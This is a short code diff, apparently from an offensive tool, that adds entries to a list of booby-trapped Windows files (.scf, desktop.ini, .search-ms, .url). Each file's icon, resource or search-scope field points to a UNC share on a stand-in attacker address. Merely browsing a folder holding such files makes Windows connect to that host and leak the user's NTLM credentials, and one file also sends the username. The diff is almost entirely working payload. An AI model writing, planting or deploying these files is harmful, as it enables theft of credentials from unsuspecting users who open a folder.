@@ -14,6 +14,8 @@ HOST = "198.51.100.7"
     [
         ("@x.scf", f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{HOST}\\s\\i.ico\r\n"),
         ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\s\\i.ico,0\r\n"),
+        ("desktop.INI", f"[.ShellClassInfo]\r\nLocalizedResourceName=@\\\\{HOST}\\s\\r.dll,-1\r\n"),
+        ("found.search-ms", f'<persistedQuery><query><scope><include path="\\\\{HOST}\\s"/></scope></query></persistedQuery>'),
         ("Desktop.ini", f"[.ShellClassInfo]\nLogo=\\\\{HOST}@80\\dav\\l.bmp\n"),
         ("link.url", f"[InternetShortcut]\nURL=https://example.org\nIconFile=\\\\{HOST}\\%USERNAME%.icon\nIconIndex=1\n"),
         (
